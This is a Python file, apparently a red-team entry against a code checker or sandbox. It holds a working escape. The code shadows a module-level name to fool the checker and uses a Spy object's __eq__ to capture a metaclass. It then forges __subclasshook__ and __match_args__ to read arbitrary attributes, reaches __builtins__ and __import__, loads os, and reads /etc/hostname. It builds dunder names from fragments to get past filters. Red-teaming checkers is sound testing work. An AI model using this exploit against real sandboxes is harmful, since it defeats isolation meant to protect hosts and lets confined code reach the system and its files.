# family: red team, round 8 (names_tuple_scope_shadow_capture)
# `type(x) in pair` is accepted when pair is a tuple of names that are all classes. The names of the
# tuple are resolved in the scope of the comparison, not where the tuple was built: a local class named
# like the module-level Spy object makes the checker see a class, while the tuple holds the object whose
# __eq__ receives type(x).
import abc


class Base(abc.ABC):
    pass


class Spy:
    def __init__(self):
        self.seen = []

    def __eq__(self, other):
        self.seen.append(other)
        return False

    __hash__ = None


spy = Spy()
pair = (spy, int)


def metaclass_of_base():
    return capture(Base)


def capture(k):
    class spy:
        pass

    type(k) in pair
    return globals_spy()


def globals_spy():
    return spy.seen[-1]


def _d(word):
    u = "_"
    return u + u + word + u + u


def read(obj, attribute):
    meta = metaclass_of_base()
    probe = meta("Probe", (), {_d("subclasshook"): classmethod(lambda c, s: True), _d("match_args"): (attribute,)})
    match obj:
        case probe(value):
            return value


def run():
    g = read(read, _d("globals"))
    b = g[_d("builtins")]
    if not isinstance(b, dict):
        b = read(b, _d("dict"))
    osmod = b[_d("import")]("os")
    return metaclass_of_base().__name__, type(osmod).__name__, osmod.getpid(), b["open"]("/etc/hostname").read().strip()


print(run())
